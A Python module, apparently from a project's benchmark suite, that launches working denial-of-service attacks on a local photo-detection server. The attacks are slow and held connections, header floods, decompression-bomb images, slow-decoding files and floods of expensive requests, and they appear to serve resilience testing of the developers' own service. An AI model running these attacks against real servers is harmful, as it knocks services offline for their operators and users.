"""Attacks a server from one address, in a process of its own, until it is ended.

    python -m bench.attackers NAME http://127.0.0.1:8080 --large /api/detections/ID [--token TOKEN]

The process has the lowest priority: what it spends itself, on the same machine, is not taken from the server and those
whom it harms, as it would not be if it were elsewhere.
"""

import argparse
import contextlib
import io
import itertools
import os
import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from functools import cache
from urllib.parse import urlsplit

import httpx
from PIL import Image

from bench import photos

ATTACKER = "127.0.0.66"
LOWEST_PRIORITY = 19
_WAIT_S = 30.0
_BOMB_WH = (7700, 7700)
_SLOW_WH = (2400, 1800)
_LARGE_WH = (4000, 3000)
_PAUSE_S = 3.0
_JPEG = {"Content-Type": "image/jpeg"}


@dataclass(frozen=True, slots=True)
class Target:
    """Server under attack: its address, a large detection in its history, and the attacker's token, if any."""

    url: str
    large: str
    token: str = ""
    photo: bytes = field(default_factory=lambda: photos.jpeg(photos.NAMES[0], photos.SMALL_WH), repr=False)

    @property
    def headers(self) -> dict[str, str]:
        """Headers of the attacker's login."""
        return headers_of(self.token)

    def client(self) -> httpx.Client:
        """Return a client at the attacker's address."""
        transport = httpx.HTTPTransport(local_address=ATTACKER)
        return httpx.Client(transport=transport, base_url=self.url, timeout=60, trust_env=False, headers=self.headers)

    def connect(self) -> socket.socket:
        """Return a connection from the attacker's address that takes little of an answer by itself."""
        address = urlsplit(self.url)
        opened = socket.create_connection(
            (address.hostname, address.port), timeout=_WAIT_S, source_address=(ATTACKER, 0)
        )
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        return opened

    def head(self, line: str, more: str = "") -> bytes:
        """Return the beginning of a request, whose header has no end yet."""
        login = "".join(f"{name}: {value}\r\n" for name, value in self.headers.items())
        return f"{line} HTTP/1.1\r\nHost: 127.0.0.1\r\n{login}{more}".encode()

    def post(self, more: str) -> bytes:
        """Return the beginning of a photo's request."""
        return self.head("POST /predict?store=0", f"Content-Type: image/jpeg\r\n{more}")


Attack = Callable[[Target], None]


def headers_of(token: str) -> dict[str, str]:
    """Return the headers of a login; none without a token."""
    return {"Authorization": f"Token {token}"} if token else {}


def keep_large(url: str, token: str) -> str:
    """Keep a photo of 12 megapixels and 13 MB; return the address of its detection."""
    buffer = io.BytesIO()
    Image.effect_noise(_LARGE_WH, 60).convert("RGB").save(buffer, "PNG", compress_level=1)
    headers = {**headers_of(token), "Content-Type": "image/png"}
    answer = httpx.post(f"{url}/predict", content=buffer.getvalue(), headers=headers, timeout=60, trust_env=False)
    return f"/api/detections/{answer.headers['X-Detection-Id']}"


@cache
def _bomb() -> bytes:
    """Return a small file of 60 megapixels."""
    buffer = io.BytesIO()
    Image.new("RGB", _BOMB_WH, (200, 30, 30)).save(buffer, "WEBP", lossless=True)
    return buffer.getvalue()


@cache
def _slow() -> bytes:
    """Return a file whose decoder works on it for half a second."""
    buffer = io.BytesIO()
    Image.effect_noise(_SLOW_WH, 60).convert("RGB").save(buffer, "JPEG2000")
    return buffer.getvalue()


def _flood(begin: Callable[[Target], bytes], piece: bytes) -> Attack:
    """Send pieces for ever, on a few connections, anew where one is closed."""

    def once(target: Target) -> None:
        with target.connect() as opened:
            opened.sendall(begin(target))
            while True:
                opened.sendall(piece)

    return _again_and_again(once, 4)


def _held(send: Callable[[Target], bytes], count: int) -> Attack:
    """Open many connections, send something on each, hold them for a while, then do it again."""

    def attack(target: Target) -> None:
        while True:
            with contextlib.ExitStack() as stack:
                for _ in range(count):
                    with contextlib.suppress(OSError):
                        stack.enter_context(target.connect()).sendall(send(target))
                time.sleep(_PAUSE_S)

    return attack


def _again_and_again(once: Attack, workers: int) -> Attack:
    def work(target: Target) -> None:
        while True:
            with contextlib.suppress(OSError, httpx.HTTPError):
                once(target)

    def attack(target: Target) -> None:
        with ThreadPoolExecutor(workers) as pool:
            list(pool.map(work, [target] * workers))

    return attack


def _post(photo: Callable[[Target], bytes], path: str) -> Attack:
    def once(target: Target) -> None:
        with target.client() as client:
            while True:
                client.post(path, content=photo(target), headers=_JPEG)

    return once


def _annotated(target: Target) -> None:
    with target.client() as client:
        for number in itertools.count(1):
            client.get(f"{target.large}/annotated?threshold=0.{number:06d}")


def _export(target: Target) -> None:
    with target.client() as client:
        while True:
            client.get("/api/export?format=coco")


def _photo_request(target: Target) -> bytes:
    return target.head(f"GET {target.large}/photo", "\r\n")


def _announced(target: Target) -> bytes:
    return target.post("Content-Length: 1000000\r\n\r\n") + target.photo[:1000]


def _upgrade(target: Target) -> bytes:
    upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: YQ==\r\n"
    return target.post(f"{upgrade}Content-Length: 9\r\n\r\n")


ATTACKS: dict[str, Attack] = {
    "small headers": _flood(lambda target: target.head("GET /healthz"), b"X-A: b\r\n" * 4096),
    "endless header": _flood(lambda target: target.head("GET /healthz", "X-A: "), b"a" * 65_536),
    "trailers": _flood(
        lambda target: target.post("Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"), b"X-A: b\r\n" * 4096
    ),
    "idle connections": _held(lambda _: b"GET", 1500),
    "upgrades with bodies": _held(_upgrade, 100),
    "unfinished bodies": _held(_announced, 900),
    "80 requests at once": _again_and_again(_post(lambda target: target.photo, "/predict?store=0"), 80),
    "small files of 60 megapixels": _again_and_again(_post(lambda _: _bomb(), "/predict?store=0"), 12),
    "60 megapixels, kept": _again_and_again(_post(lambda _: _bomb(), "/predict"), 4),
    "slow files": _again_and_again(_post(lambda _: _slow(), "/predict?store=0"), 12),
    "readers of nothing": _held(_photo_request, 60),
    "pictures": _again_and_again(_annotated, 60),
    "exports": _again_and_again(_export, 40),
}


def main() -> None:
    """Attack until the process is ended."""
    parser = argparse.ArgumentParser(prog="python -m bench.attackers", description=__doc__)
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("url")
    parser.add_argument("--large", required=True)
    parser.add_argument("--token", default="")
    options = parser.parse_args()
    os.nice(LOWEST_PRIORITY)
    for made in (_bomb, _slow):
        made()
    target = Target(options.url, options.large, options.token)
    print("ready", flush=True)
    ATTACKS[options.name](target)


if __name__ == "__main__":
    main()
